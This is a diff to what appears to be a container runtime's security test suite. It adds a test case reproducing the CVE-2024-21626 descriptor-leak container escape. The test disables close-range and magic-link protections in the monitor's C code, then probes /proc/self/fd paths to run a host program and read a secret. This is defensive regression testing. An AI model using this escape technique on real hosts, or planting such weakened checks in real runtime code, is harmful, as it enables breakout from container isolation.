@@ -1,5 +1,5 @@
 /** What of the host's open files can be had: by descriptors that leak, and by the names that /proc gives them. */
-import { writeFileSync } from "node:fs";
+import { copyFileSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { tarLayer } from "../../support/tar-layer.ts";
 import { ATTACKER, type Attack, type Edit, lootOf, type Scene, withContainer } from "./attack.ts";
@@ -21,8 +21,8 @@ const leak: readonly Edit[] = [
   },
   {
     file: "native/monitor/interpreter.c",
-    from: "(int)syscall(SYS_close_range, (unsigned)arg[0], ~0U, CLOSE_RANGE_CLOEXEC)",
-    to: "0",
+    from: "step_close_range(context, (unsigned)arg[0])",
+    to: "0 * step_close_range(context, 1000)",
   },
 ];
 
@@ -30,6 +30,13 @@ const magicLinks: Edit = {
   file: "native/monitor/paths.c",
   from: "{ .flags = (unsigned)(flags | O_CLOEXEC), .resolve = RESOLVE_NO_MAGICLINKS }",
   to: "{ .flags = (unsigned)(flags | O_CLOEXEC) }",
+};
+
+/** Open until the very end of execve(2), as with FD_CLOEXEC. */
+const closedByExec: Edit = {
+  file: "native/monitor/interpreter.c",
+  from: "step_close_range(context, (unsigned)arg[0])",
+  to: "(int)syscall(SYS_close_range, (unsigned)arg[0], ~0U, 4 /* CLOSE_RANGE_CLOEXEC */)",
 };
 
 export const descriptorAttacks: readonly Attack[] = [
@@ -81,6 +88,22 @@ export const descriptorAttacks: readonly Attack[] = [
       await scene.cli.output("import", "-c", "WORKDIR /work", archive, "attack/workdir");
       const line = scene.line(["read", "secret"]).replace("tsrun/base", "attack/workdir");
       return lootOf(await scene.cli.shell(leaking(scene, line)));
+    },
+  },
+  {
+    name: "CVE-2024-21626: a program of the host's, by way of a descriptor that execve would close",
+    weakening: [...leak.slice(0, 2), closedByExec],
+    async attempt(scene) {
+      const { cli, vault } = scene;
+      const program = join(vault, "program");
+      copyFileSync(join(cli.directory, "attacker"), program);
+      const line = (fd: number, path: string) =>
+        leaking(scene, `tsrun run --rm --network none tsrun/base /proc/self/fd/${fd}/${path} loot`);
+      const up = `../../../../../../../..${program}`;
+      const tries = [...Array(10).keys()].map((fd) => line(fd + 3, up));
+      const results = [await cli.shell(line(LEAKED, "program"))];
+      for (const each of tries) results.push(await cli.shell(each));
+      return lootOf(...results);
     },
   },
 ];
